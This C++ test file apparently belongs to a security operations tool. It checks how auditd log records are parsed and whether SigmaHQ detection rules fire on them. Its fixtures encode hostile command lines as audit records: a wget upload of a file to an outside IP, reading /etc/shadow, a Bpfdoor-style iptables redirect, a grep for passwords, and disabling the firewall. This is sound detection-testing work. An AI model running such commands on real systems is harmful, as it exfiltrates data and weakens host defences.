// Linux Audit records (issue 5, R18/R19): audit.log lines and their syslog forms, normalised, and
// SigmaHQ's `product: linux, service: auditd` rules firing on them. The records are written from
// auditd's formats (audit.log as auditd writes it, auditd.conf(5) log_format RAW and ENRICHED,
// audisp-syslog's messages), not shaped to any rule.
#include <gtest/gtest.h>

#include <filesystem>
#include <set>
#include <string>

#include "soc/detect.h"
#include "soc/parse.h"
#include "soc/parse_testing.h"
#include "soc/sigma.h"

namespace seccloud::soc {
namespace {

using parse_testing::kReceived;
using parse_testing::ParseAs;
using parse_testing::Str;

Record Text(std::string raw) { return ParseAs(Format::kText, std::move(raw), "file:audit.log"); }

constexpr char kExecveChmod[] =
    "type=EXECVE msg=audit(1764129000.123:4567): argc=3 a0=\"chmod\" a1=\"+x\" "
    "a2=2F746D702F6D792066696C65";

TEST(ParseAuditTest, ExecveArgumentsQuotedAndHexEncoded) {
  const Record r = Text(kExecveChmod);
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "event.dataset"), "auditd.log");
  EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:00.123Z");
  EXPECT_EQ(Str(r, "auditd.log.record_type"), "EXECVE");
  EXPECT_EQ(Str(r, "auditd.log.sequence"), "4567");
  EXPECT_EQ(Str(r, "auditd.log.argc"), "3");
  EXPECT_EQ(Str(r, "auditd.log.a0"), "chmod");
  EXPECT_EQ(Str(r, "auditd.log.a1"), "+x");
  // auditd hex-encodes an argument holding a blank; ausearch -i shows it decoded.
  EXPECT_EQ(Str(r, "auditd.log.a2"), "/tmp/my file");
  EXPECT_EQ(Str(r, "process.command_line"), "chmod +x /tmp/my file");
  EXPECT_EQ(Str(r, "event.action"), "execve");
  // The event's text, what Sigma's keywords search: the command line; the raw line as received.
  EXPECT_EQ(Str(r, "message"), "chmod +x /tmp/my file");
  EXPECT_EQ(r.raw, kExecveChmod);
  EXPECT_EQ(Str(r, "seccloud.soc.format"), "text");
}

TEST(ParseAuditTest, QuotedHexLookingArgumentStaysAsWritten) {
  // Only an unquoted value is auditd's hex encoding: "CAFE" quoted is the word CAFE.
  const Record r =
      Text("type=EXECVE msg=audit(1764129000.123:1): argc=3 a0=\"echo\" a1=\"CAFE\" a2=42454546");
  EXPECT_EQ(Str(r, "auditd.log.a1"), "CAFE");
  EXPECT_EQ(Str(r, "auditd.log.a2"), "BEEF");  // unquoted: the hex of "BEEF"
  EXPECT_EQ(Str(r, "process.command_line"), "echo CAFE BEEF");
  // The same for an escaped field of another record type.
  const Record p = Text("type=PATH msg=audit(1764129000.123:2): item=0 name=\"BEEF\"");
  EXPECT_EQ(Str(p, "auditd.log.name"), "BEEF");
}

TEST(ParseAuditTest, SeveralRuleKeysAreCommaSeparated) {
  // auditctl -k exec -k susp: the keys joined by 0x01, the whole hex-encoded.
  const Record r = Text(
      "type=SYSCALL msg=audit(1764129000.123:2): arch=c000003e syscall=59 comm=\"id\" "
      "key=657865630173757370");
  EXPECT_EQ(Str(r, "auditd.log.key"), "exec,susp");
}

TEST(ParseAuditTest, EnrichedSeparatorEndsAValue) {
  // A word after the 0x1D separator is an enriched field's, never the value before it continued.
  const Record r = Text(
      "type=SYSCALL msg=audit(1764129000.123:3): arch=c000003e syscall=59 comm=\"id\" "
      "key=(null)\x1dword ARCH=x86_64 SYSCALL=execve");
  EXPECT_EQ(Str(r, "auditd.log.key"), "(null)");
  EXPECT_EQ(Str(r, "auditd.log.ARCH"), "x86_64");
}

TEST(ParseAuditTest, FilePathOnlyFromPathRecords) {
  // An AVC record's name= is the object's last path component, not a file path.
  const Record r = Text(
      "type=AVC msg=audit(1764129000.123:4): avc:  denied  { read } for  pid=812 "
      "comm=\"httpd\" name=\"shadow\" dev=\"dm-0\" ino=1104 "
      "scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 "
      "tclass=file permissive=0");
  EXPECT_EQ(Str(r, "auditd.log.name"), "shadow");
  EXPECT_EQ(Str(r, "file.path"), "<absent>");
  const Record p = Text("type=PATH msg=audit(1764129000.123:5): item=0 name=\"/etc/shadow\"");
  EXPECT_EQ(Str(p, "file.path"), "/etc/shadow");
}

TEST(ParseAuditTest, LongExecveArgumentPiecesAreJoined) {
  // The kernel splits an argument too long for one pair: a1_len, then a1[0], a1[1], … in hex.
  const Record r = Text(
      "type=EXECVE msg=audit(1764129000.123:4580): argc=3 a0=\"bash\" a1_len=22 "
      "a1[0]=2D6320276563686F20 a1[1]=5A57356A6232526C5A413D3D27 a2=\"x\"");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a1"), "-c 'echo ZW5jb2RlZA=='");
  EXPECT_EQ(Str(r, "auditd.log.a1_len"), "22");
  EXPECT_EQ(Str(r, "auditd.log.a2"), "x");
  EXPECT_EQ(Str(r, "process.command_line"), "bash -c 'echo ZW5jb2RlZA==' x");
}

TEST(ParseAuditTest, SyscallRecordKeepsNumbersAndDecodesEscapedFields) {
  // A SYSCALL record's a0..a3 are the raw arguments in hex: never decoded as text.
  const Record r = Text(
      "type=SYSCALL msg=audit(1764129000.456:4568): arch=c000003e syscall=59 success=yes exit=0 "
      "a0=55d0c6b0a2f0 a1=55d0c6b0a330 a2=55d0c6b09e60 a3=0 items=2 ppid=2211 pid=2230 "
      "auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
      "comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=6578656331");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a0"), "55d0c6b0a2f0");
  EXPECT_EQ(Str(r, "auditd.log.a3"), "0");
  EXPECT_EQ(Str(r, "auditd.log.syscall"), "59");
  EXPECT_EQ(Str(r, "auditd.log.key"), "exec1");  // hex: a key is an escaped field
  EXPECT_EQ(Str(r, "process.pid"), "2230");
  EXPECT_EQ(Str(r, "process.parent.pid"), "2211");
  EXPECT_EQ(Str(r, "process.name"), "bash");
  EXPECT_EQ(Str(r, "process.executable"), "/usr/bin/bash");
  EXPECT_EQ(Str(r, "user.id"), "0");
  EXPECT_EQ(Str(r, "user.audit.id"), "1000");
  EXPECT_EQ(Str(r, "user.effective.id"), "0");
  EXPECT_EQ(Str(r, "event.outcome"), "success");
  EXPECT_EQ(Str(r, "process.command_line"), "<absent>");  // only EXECVE records have one
  // "(null)" is kept as written, never hex-decoded.
  EXPECT_EQ(Str(Text("type=SYSCALL msg=audit(1764129000.456:1): key=(null) exe=(null)"),
                "auditd.log.key"),
            "(null)");
}

TEST(ParseAuditTest, EnrichedFormatAndNode) {
  // auditd.conf log_format = ENRICHED: the interpreted fields after a 0x1D byte.
  const Record r = Text(
      "node=web01 type=SYSCALL msg=audit(1764129000.789:4569): arch=c000003e syscall=135 "
      "success=yes exit=0 a0=40000 a1=0 items=0 pid=3001 comm=\"setarch\" "
      "exe=\"/usr/bin/setarch\" key=(null)\x1d"
      "ARCH=x86_64 SYSCALL=personality AUID=\"alice\" UID=\"root\"");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "host.hostname"), "web01");
  EXPECT_EQ(Str(r, "auditd.log.node"), "web01");
  EXPECT_EQ(Str(r, "auditd.log.key"), "(null)");
  EXPECT_EQ(Str(r, "auditd.log.SYSCALL"), "personality");
  EXPECT_EQ(Str(r, "auditd.log.syscall"), "135");
  EXPECT_EQ(Str(r, "auditd.log.AUID"), "alice");
  EXPECT_EQ(Str(r, "auditd.log.ARCH"), "x86_64");
}

TEST(ParseAuditTest, ProctitleAndPathRecords) {
  const Record t = Text(
      "type=PROCTITLE msg=audit(1764129000.790:4570): "
      "proctitle=2F62696E2F7368002D6300636174202F6574632F736861646F77");
  EXPECT_EQ(Str(t, "auditd.log.proctitle"), "/bin/sh -c cat /etc/shadow");
  EXPECT_EQ(Str(t, "process.title"), "/bin/sh -c cat /etc/shadow");
  const Record p = Text(
      "type=PATH msg=audit(1764129000.790:4570): item=0 name=\"/etc/shadow\" inode=1312 "
      "dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
      "cap_fe=0 cap_fver=0");
  EXPECT_EQ(Str(p, "auditd.log.name"), "/etc/shadow");
  EXPECT_EQ(Str(p, "auditd.log.nametype"), "NORMAL");
  EXPECT_EQ(Str(p, "file.path"), "/etc/shadow");
  // A name that is not hex and not quoted stays as written.
  EXPECT_EQ(Str(Text("type=PATH msg=audit(1764129000.790:1): item=0 name=ZZ nametype=NORMAL"),
                "auditd.log.name"),
            "ZZ");
}

TEST(ParseAuditTest, UserspaceMessagePairs) {
  const Record r = Text(
      "type=SERVICE_STOP msg=audit(1764129001.000:4571): pid=1 uid=0 auid=4294967295 "
      "ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=firewalld comm=\"systemd\" "
      "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.unit"), "firewalld");
  EXPECT_EQ(Str(r, "auditd.log.comm"), "systemd");
  EXPECT_EQ(Str(r, "auditd.log.res"), "success");
  EXPECT_EQ(Str(r, "auditd.log.msg"), "<absent>");
  EXPECT_EQ(Str(r, "event.outcome"), "success");
  EXPECT_EQ(Str(r, "event.action"), "service_stop");
  const Record u = Text(
      "type=ADD_USER msg=audit(1764129001.100:4572): pid=3120 uid=0 auid=1000 ses=3 "
      "msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=web01 addr=192.0.2.10 "
      "terminal=pts/0 res=failed'");
  EXPECT_EQ(Str(u, "auditd.log.op"), "adding user");  // a word without '=' continues the value
  EXPECT_EQ(Str(u, "auditd.log.id"), "1001");
  EXPECT_EQ(Str(u, "auditd.log.pid"), "3120");
  EXPECT_EQ(Str(u, "source.ip"), "192.0.2.10");
  EXPECT_EQ(Str(u, "event.outcome"), "failure");
}

TEST(ParseAuditTest, SyslogFormsFromAudisp) {
  for (const char* line :
       {"<14>Nov 26 03:50:05 web01 audisp-syslog: node=web01 type=EXECVE "
        "msg=audit(1764129000.123:4567): argc=2 a0=\"id\" a1=\"-u\"",
        "<30>1 2025-11-26T03:50:05Z web01 audispd - - - type=EXECVE "
        "msg=audit(1764129000.123:4567): argc=2 a0=\"id\" a1=\"-u\"",
        "Nov 26 03:50:05 web01 audit[812]: type=EXECVE msg=audit(1764129000.123:4567): argc=2 "
        "a0=\"id\" a1=\"-u\""}) {
    SCOPED_TRACE(line);
    const Record r = ParseAs(Format::kSyslog, line, "udp:514");
    ASSERT_TRUE(r.parsed);
    EXPECT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:00.123Z");  // the record's, not syslog's
    EXPECT_EQ(Str(r, "auditd.log.a0"), "id");
    EXPECT_EQ(Str(r, "process.command_line"), "id -u");
    EXPECT_EQ(Str(r, "host.hostname"), "web01");
    EXPECT_NE(Str(r, "log.syslog.appname"), "<absent>");
    // process.* name the audited process (an EXECVE record has no comm), never the relay.
    EXPECT_EQ(Str(r, "process.name"), "<absent>");
    EXPECT_EQ(Str(r, "process.pid"), "<absent>");
  }
  const Record relayed = ParseAs(Format::kSyslog,
                                 "<14>Nov 26 03:50:05 web01 audisp-syslog[812]: type=SYSCALL "
                                 "msg=audit(1764129000.123:4568): syscall=59 pid=3121 "
                                 "comm=\"id\" exe=\"/usr/bin/id\"",
                                 "udp:514");
  EXPECT_EQ(Str(relayed, "process.name"), "id");
  EXPECT_EQ(Str(relayed, "process.pid"), "3121");
  EXPECT_EQ(Str(relayed, "process.executable"), "/usr/bin/id");
  EXPECT_EQ(Str(relayed, "log.syslog.appname"), "audisp-syslog");
  EXPECT_EQ(Str(relayed, "log.syslog.procid"), "812");
  // Another program's message of the same shape is not taken for one.
  const Record other = ParseAs(Format::kSyslog,
                               "<14>Nov 26 03:50:05 web01 myapp: type=EXECVE "
                               "msg=audit(1764129000.123:4567): argc=1 a0=\"id\"",
                               "udp:514");
  EXPECT_EQ(Str(other, "event.dataset"), "system.syslog");
  EXPECT_EQ(Str(other, "auditd.log.a0"), "<absent>");
}

TEST(ParseAuditTest, JournaldFormOfUserspaceRecords) {
  // systemd-journald forwards userspace audit records as program audit[PID], without "type="
  // and without the msg=audit(…) stamp: the first word is the type, the time the syslog one.
  const Record r =
      ParseAs(Format::kSyslog,
              "<38>Nov 26 03:50:05 web01 audit[1]: SERVICE_STOP pid=1 uid=0 auid=4294967295 "
              "ses=4294967295 subj=unconfined msg='unit=firewalld comm=\"systemd\" "
              "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
              "udp:514");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "event.dataset"), "auditd.log");
  EXPECT_EQ(Str(r, "auditd.log.record_type"), "SERVICE_STOP");
  EXPECT_EQ(Str(r, "event.action"), "service_stop");
  EXPECT_EQ(Str(r, "auditd.log.sequence"), "<absent>");
  EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:05.000Z");
  EXPECT_EQ(Str(r, "auditd.log.unit"), "firewalld");
  EXPECT_EQ(Str(r, "process.name"), "systemd");
  EXPECT_EQ(Str(r, "process.pid"), "1");
  EXPECT_EQ(Str(r, "event.outcome"), "success");
  // Not that shape, or another program: the syslog record it was.
  for (const char* line : {
           "<38>Nov 26 03:50:05 web01 audit[1]: SERVICE_STOP",
           "<38>Nov 26 03:50:05 web01 audit[1]: SERVICE_STOP no pairs here",
           "<38>Nov 26 03:50:05 web01 audit[1]: service_stop pid=1",
           "<38>Nov 26 03:50:05 web01 audit[1]: _X pid=1",
           "<38>Nov 26 03:50:05 web01 audit[1]: SERVICE_STOP  pid=1",
           "<38>Nov 26 03:50:05 web01 myapp[1]: SERVICE_STOP pid=1 uid=0",
           "<38>Nov 26 03:50:05 web01 audispd[1]: SERVICE_STOP pid=1 uid=0",
       }) {
    SCOPED_TRACE(line);
    const Record o = ParseAs(Format::kSyslog, line, "udp:514");
    EXPECT_EQ(Str(o, "event.dataset"), "system.syslog");
    EXPECT_EQ(Str(o, "auditd.log.record_type"), "<absent>");
  }
  std::string long_type = "<38>Nov 26 03:50:05 web01 audit[1]: " + std::string(65, 'A') + " a=1";
  EXPECT_EQ(Str(ParseAs(Format::kSyslog, long_type, "udp:514"), "event.dataset"), "system.syslog");
}

TEST(ParseAuditTest, NotAnAuditHeaderStaysText) {
  for (const char* line :
       {"type=EXECVE argc=1", "type=EXECVE msg=audit(17641290.12:1): a0=1",
        "type= msg=audit(1764129000.123:1): a0=1", "type=EXECVE msg=audit(1764129000.123:): a0=1",
        "type=EXECVE msg=audit(1764129000.123:5 a0=1",
        "node= type=EXECVE msg=audit(1764129000.123:5): a0=1",
        "type=EXECVE msg=audit(99999999999999.123:5): a0=1"}) {
    SCOPED_TRACE(line);
    const Record r = Text(line);
    EXPECT_TRUE(r.parsed);
    EXPECT_EQ(Str(r, "event.dataset"), "text");
    EXPECT_EQ(Str(r, "auditd.log.record_type"), "<absent>");
  }
}

TEST(ParseAuditTest, HostileRecordsAreBounded) {
  // More pairs than kept: the first 256, and how many were dropped.
  std::string many = "type=EXECVE msg=audit(1764129000.123:1): argc=400";
  for (int i = 0; i < 400; ++i) many += " a" + std::to_string(i) + "=\"x\"";
  const Record r = Text(many);
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a254"), "x");
  EXPECT_EQ(Str(r, "auditd.log.a255"), "<absent>");
  EXPECT_EQ(Str(r, "auditd.log.pairs_dropped"), "145");
  // An unterminated quote, a key too long, bytes that are no key, odd hex, invalid UTF-8 once
  // decoded: a record all the same, every value valid UTF-8.
  const Record odd = Text("type=EXECVE msg=audit(1764129000.123:2): a0=ABC " +
                          std::string(100, 'k') + "=1 ==== \x01\x02 a1=FF80 a2=\"open");
  ASSERT_TRUE(odd.parsed);
  EXPECT_EQ(Str(odd, "auditd.log.a0"), "ABC");
  EXPECT_EQ(Str(odd, "auditd.log.a1"), "\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Str(odd, "auditd.log.a2"), "open");
  // A repeated key keeps its first value.
  EXPECT_EQ(Str(Text("type=PATH msg=audit(1764129000.123:3): name=\"/a\" name=\"/b\""),
                "auditd.log.name"),
            "/a");
  // Deterministic, as the store rebuilds fields from the raw line.
  const Record again = Text(many);
  EXPECT_EQ(boost::json::serialize(again.fields()), boost::json::serialize(r.fields()));
}

// ---- SigmaHQ's auditd rules on these records ----

const std::filesystem::path kAuditdRules =
    std::filesystem::path(SECCLOUD_SOURCE_DIR "/../shared/data/sigma/rules/linux/auditd");

std::set<std::string> Fired(DetectionEngine& engine, const Record& r) {
  std::vector<Detection> out;
  engine.Process(r, &out);
  std::set<std::string> ids;
  for (const auto& d : out) ids.insert(d.rule_id);
  return ids;
}

TEST(ParseAuditTest, SigmaHqAuditdRulesFireOnTheirRecords) {
  if (!std::filesystem::is_directory(kAuditdRules)) {
    GTEST_SKIP() << kAuditdRules << " is absent (SigmaHQ rules are test data, not in the repo)";
  }
  LoadReport report;
  auto set = LoadRules({kAuditdRules}, &report);
  ASSERT_TRUE(set.has_value());
  for (const auto& i : report.unsupported) ADD_FAILURE() << "not loaded: " << i.ToString();
  for (const auto& i : report.errors) ADD_FAILURE() << "error: " << i.ToString();
  auto engine = DetectionEngine::Create(std::move(*set));
  ASSERT_TRUE(engine.has_value());

  struct Case {
    const char* rule_id;
    const char* line;
    Format format;
  };
  const Case cases[] = {
      {"a5b977d6-8a81-4475-91b9-49dbfcd941f7",  // Remove Immutable File Attribute
       "type=EXECVE msg=audit(1764129000.123:4601): argc=3 a0=\"chattr\" a1=\"-i\" "
       "a2=\"/etc/resolv.conf\"",
       Format::kText},
      {"cb39d16b-b3b6-4a7a-8222-1cf24b686ffc",  // Data Exfiltration with Wget
       "type=EXECVE msg=audit(1764129000.200:4602): argc=3 a0=\"wget\" "
       "a1=2D2D706F73742D66696C653D2F746D702F6D7920646174612E747874 "
       "a2=\"http://198.51.100.7/upload\"",
       Format::kText},
      {"e497a24e-9345-4a62-9803-b06d7d7cb132",  // Disable ASLR (personality syscall, enriched)
       "type=SYSCALL msg=audit(1764129000.300:4603): arch=c000003e syscall=135 success=yes "
       "exit=0 a0=40000 a1=0 a2=0 a3=7ffd1c0b5e70 items=0 ppid=2211 pid=2230 auid=1000 uid=0 "
       "gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"setarch\" "
       "exe=\"/usr/bin/setarch\" subj=unconfined key=(null)\x1d"
       "ARCH=x86_64 SYSCALL=personality AUID=\"alice\" UID=\"root\" GID=\"root\"",
       Format::kText},
      {"1bac86ba-41aa-4f62-9d6b-405eac99b485",  // Systemd Service Creation
       "node=web01 type=PATH msg=audit(1764129000.400:4604): item=1 "
       "name=\"/etc/systemd/system/update-helper.service\" inode=393412 dev=fd:01 mode=0100644 "
       "ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
       Format::kText},
      {"53059bc0-1472-438b-956a-7508a94a91f0",  // Disable System Firewall
       "<14>Nov 26 03:50:05 web01 audisp-syslog: node=web01 type=SERVICE_STOP "
       "msg=audit(1764129000.500:4605): pid=1 uid=0 auid=4294967295 ses=4294967295 "
       "subj=system_u:system_r:init_t:s0 msg='unit=firewalld comm=\"systemd\" "
       "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
       Format::kSyslog},
      {"759d0d51-bc99-4b5e-9add-8f5b2c8e7512",  // Creation Of An User Account
       "type=ADD_USER msg=audit(1764129000.600:4606): pid=3120 uid=0 auid=1000 ses=3 "
       "subj=unconfined msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=web01 "
       "addr=? terminal=pts/0 res=success'",
       Format::kText},
      {"4b3cb710-5e83-4715-8c45-8b2b5b3e5751",  // Modification of ld.so.preload
       "<14>Nov 26 03:50:05 web01 audispd: node=web01 type=PATH "
       "msg=audit(1764129000.700:4607): item=0 name=\"/etc/ld.so.preload\" inode=1100 "
       "dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
       "cap_fe=0 cap_fver=0",
       Format::kSyslog},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.line);
    const Record r = ParseAs(c.format, c.line, "test");
    ASSERT_TRUE(r.parsed);
    ASSERT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_EQ(Fired(**engine, r).count(c.rule_id), 1u) << c.rule_id;
  }
  // journald's form of the same SERVICE_STOP record fires the same rule.
  EXPECT_EQ(
      Fired(**engine, ParseAs(Format::kSyslog,
                              "<38>Nov 26 03:50:05 web01 audit[1]: SERVICE_STOP pid=1 uid=0 "
                              "auid=4294967295 ses=4294967295 subj=unconfined msg='unit=firewalld "
                              "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? "
                              "addr=? terminal=? res=success'",
                              "udp:514"))
          .count("53059bc0-1472-438b-956a-7508a94a91f0"),
      1u);

  // Everyday records of the same types fire none of the 53 rules.
  for (const char* benign : {
           "type=EXECVE msg=audit(1764129001.000:4701): argc=2 a0=\"ls\" a1=\"-la\"",
           "type=EXECVE msg=audit(1764129001.100:4702): argc=3 a0=\"wget\" a1=\"-q\" "
           "a2=\"https://deb.debian.org/debian/dists/bookworm/Release\"",
           "type=SYSCALL msg=audit(1764129001.200:4703): arch=c000003e syscall=59 success=yes "
           "exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1 pid=812 auid=4294967295 uid=0 "
           "comm=\"cron\" exe=\"/usr/sbin/cron\" key=(null)\x1d"
           "ARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"root\"",
           "type=PATH msg=audit(1764129001.300:4704): item=0 name=\"/etc/hosts\" inode=12 "
           "dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
           "type=SERVICE_STOP msg=audit(1764129001.400:4705): pid=1 uid=0 auid=4294967295 "
           "ses=4294967295 msg='unit=cups comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
           "hostname=? addr=? terminal=? res=success'",
       }) {
    SCOPED_TRACE(benign);
    const Record r = Text(benign);
    ASSERT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_TRUE(Fired(**engine, r).empty());
  }
}

TEST(ParseAuditTest, ExecveKeywordRulesSearchTheCommandLine) {
  if (!std::filesystem::is_directory(kAuditdRules)) {
    GTEST_SKIP() << kAuditdRules << " is absent (SigmaHQ rules are test data, not in the repo)";
  }
  LoadReport report;
  auto set = LoadRules({kAuditdRules}, &report);
  ASSERT_TRUE(set.has_value());
  auto engine = DetectionEngine::Create(std::move(*set));
  ASSERT_TRUE(engine.has_value());
  // Bpfdoor TCP Ports Redirect: a0|endswith iptables, a1 -t, a2 nat, and the keyword
  // "--to-ports 42", which the raw line never holds (a13="--to-ports" a14="42392").
  // iptables -t nat -I PREROUTING -s 198.51.100.1 -p tcp --dport 22 -j REDIRECT --to-ports 42392
  const std::string bpfdoor =
      "type=EXECVE msg=audit(1764129000.123:4601): argc=15 a0=\"/sbin/iptables\" a1=\"-t\" "
      "a2=\"nat\" a3=\"-I\" a4=\"PREROUTING\" a5=\"-s\" a6=\"198.51.100.1\" a7=\"-p\" "
      "a8=\"tcp\" a9=\"--dport\" a10=\"22\" a11=\"-j\" a12=\"REDIRECT\" a13=\"--to-ports\" "
      "a14=\"42392\"";
  const Record r = Text(bpfdoor);
  ASSERT_EQ(Str(r, "event.dataset"), "auditd.log");
  EXPECT_EQ(Str(r, "message"),
            "/sbin/iptables -t nat -I PREROUTING -s 198.51.100.1 -p tcp --dport 22 -j REDIRECT "
            "--to-ports 42392");
  EXPECT_EQ(r.raw, bpfdoor);
  EXPECT_EQ(Fired(**engine, r).count("70b4156e-50fc-4523-aa50-c9dddf1993fc"), 1u);
  // The same through audisp-syslog.
  EXPECT_EQ(
      Fired(**engine, ParseAs(Format::kSyslog,
                              "<14>Nov 26 03:50:05 web01 audisp-syslog: " + bpfdoor, "udp:514"))
          .count("70b4156e-50fc-4523-aa50-c9dddf1993fc"),
      1u);
  // Find Credentials in Files (keywords '|all': [grep, password]): "password" only inside a
  // hex-encoded argument (grep -ri "db password" /etc: the blank makes auditd encode it).
  const Record cred = Text(
      "type=EXECVE msg=audit(1764129000.200:4602): argc=4 a0=\"grep\" a1=\"-ri\" "
      "a2=64622070617373776F7264 a3=\"/etc\"");
  EXPECT_EQ(Str(cred, "message"), "grep -ri db password /etc");
  EXPECT_EQ(cred.raw.find("password"), std::string::npos);
  EXPECT_EQ(Fired(**engine, cred).count("df3fcaea-2715-4214-99c5-0056ea59eb35"), 1u);
  EXPECT_EQ(Fired(**engine, Text("type=EXECVE msg=audit(1764129000.210:4603): argc=3 "
                                 "a0=\"grep\" a1=\"-ri\" a2=\"/etc\""))
                .count("df3fcaea-2715-4214-99c5-0056ea59eb35"),
            0u);
  // Not every iptables nat rule: another port, or no keyword, fires nothing.
  EXPECT_EQ(Fired(**engine, Text("type=EXECVE msg=audit(1764129000.300:4603): argc=5 "
                                 "a0=\"/sbin/iptables\" a1=\"-t\" a2=\"nat\" a3=\"-L\" "
                                 "a4=\"-n\""))
                .count("70b4156e-50fc-4523-aa50-c9dddf1993fc"),
            0u);
}

}  // namespace
}  // namespace seccloud::soc
